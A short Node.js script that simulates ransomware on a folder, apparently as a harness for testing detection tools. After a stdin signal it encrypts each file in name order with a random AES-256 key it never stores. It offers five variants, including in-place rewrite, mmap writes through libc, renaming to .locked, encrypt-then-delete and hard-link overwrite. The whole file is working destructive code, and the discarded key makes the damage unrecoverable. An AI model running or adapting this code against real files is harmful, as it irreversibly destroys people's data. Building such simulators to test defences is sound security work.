// Does to a folder what ransomware does: file by file, in the order of their names. Then it waits to be stopped.

import { createCipheriv, randomBytes } from 'node:crypto';
import {
  closeSync,
  linkSync,
  openSync,
  readdirSync,
  readFileSync,
  renameSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { createRequire } from 'node:module';

const [folder, way, links] = process.argv.slice(2);
const [key, start] = [randomBytes(32), randomBytes(16)];
const encrypt = (bytes) => createCipheriv('aes-256-ctr', key, start).update(bytes);
const mapped = () => {
  const libc = createRequire(import.meta.url)('koffi').load('libc.so.6');
  const mmap = libc.func('void *mmap(void *at, size_t length, int protection, int flags, int fd, long offset)');
  const munmap = libc.func('int munmap(void *at, size_t length)');
  const memcpy = libc.func('void *memcpy(void *to, void *from, size_t length)');
  return (file) => {
    const bytes = encrypt(readFileSync(file));
    const fd = openSync(file, 'r+');
    const at = mmap(null, bytes.length, 3, 1, fd, 0);
    closeSync(fd);
    memcpy(at, bytes, bytes.length);
    munmap(at, bytes.length);
  };
};
const ways = {
  rewrite: () => (file) => writeFileSync(file, encrypt(readFileSync(file))),
  mmap: mapped,
  rename: () => (file) => renameSync(file, `${file}.locked`),
  delete: () => (file) => {
    writeFileSync(`${file}.locked`, encrypt(readFileSync(file)));
    unlinkSync(file);
  },
  'hard link': () => (file) => {
    const link = `${links}/${file.split('/').at(-1)}`;
    linkSync(file, link);
    writeFileSync(link, encrypt(readFileSync(link)));
  },
};
const act = ways[way]();
const files = readdirSync(folder).sort();
process.stdout.write('ready\n');
process.stdin.once('data', () => {
  for (const name of files) act(`${folder}/${name}`);
  process.stdout.write('done\n');
});
